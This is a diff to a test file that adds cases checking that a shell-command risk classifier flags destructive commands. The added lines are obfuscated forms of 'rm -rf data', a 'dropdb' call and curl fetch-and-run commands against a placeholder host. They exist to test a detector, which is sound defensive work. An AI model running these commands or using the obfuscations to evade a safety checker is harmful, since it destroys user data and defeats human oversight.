@@ -198,3 +198,47 @@ it.each(
 )('%s destroys something', (script) => {
   expect(riskOf(script)).toBe('destroy');
 });
+
+it.each(
+  lines(String.raw`
+  c=rm; $c -rf data
+  r=r; m=m; $r$m -rf data
+  X='rm -rf data'; $X
+  X='rm -rf data'; eval "$X"
+  X='rm -rf data'; bash <<< "$X"
+  a=(rm -rf data); "\${a[@]}"
+  set -- rm -rf data; "$@"
+  f() { sudo -n "$@"; }; f rm -rf data
+  $(base64 -d <<< cm0gLXJmIGRhdGE=)
+  echo cm0gLXJmIGRhdGE= | base64 -d | sh
+  base64 -d <<< cm0gLXJmIGRhdGE= | sudo -n bash -s
+  { echo rm -rf data; } | sh
+  printf '%s' 'rm -rf data' | sh
+  bash <(echo 'rm -rf data')
+  source <(echo 'rm -rf data')
+  curl -so /tmp/x.sh http://x; bash /tmp/x.sh
+  f=$(mktemp); curl -s http://x > "$f"; chmod +x "$f"; "$f"
+  curl -s http://x | python3 -
+  sudo -n bash -s <<< 'rm -rf data'
+  echo 'rm -rf data' | ssh -o BatchMode=yes host
+  alias ls='rm -rf data'
+  trap 'rm -rf data' EXIT
+  env -S 'rm -rf data'
+  script -qc 'rm -rf data' /dev/null
+  busybox rm -rf data
+  nsenter -t 1 -m rm -rf data
+  systemd-run --unit=x rm -rf data
+  runuser -l postgres -c 'dropdb shop'
+  parallel 'rm {}' ::: a b
+  bash -c -- 'rm x'
+  fish -c 'rm x'
+  perl -e 'unlink "data"'
+  python3 -c 'import shutil; shutil.rmtree("data")'
+  awk 'BEGIN { system("rm -rf data") }'
+  T=/tmp/x; T=/data; rm -rf "$T"
+  T=/tmp/../data; rm -rf "$T"
+  rm -rf "/tmp/$NAME"
+`).map((line) => line.replaceAll('\\$', '$')),
+)('%s destroys something, however it is put', (script) => {
+  expect(riskOf(script)).toBe('destroy');
+});
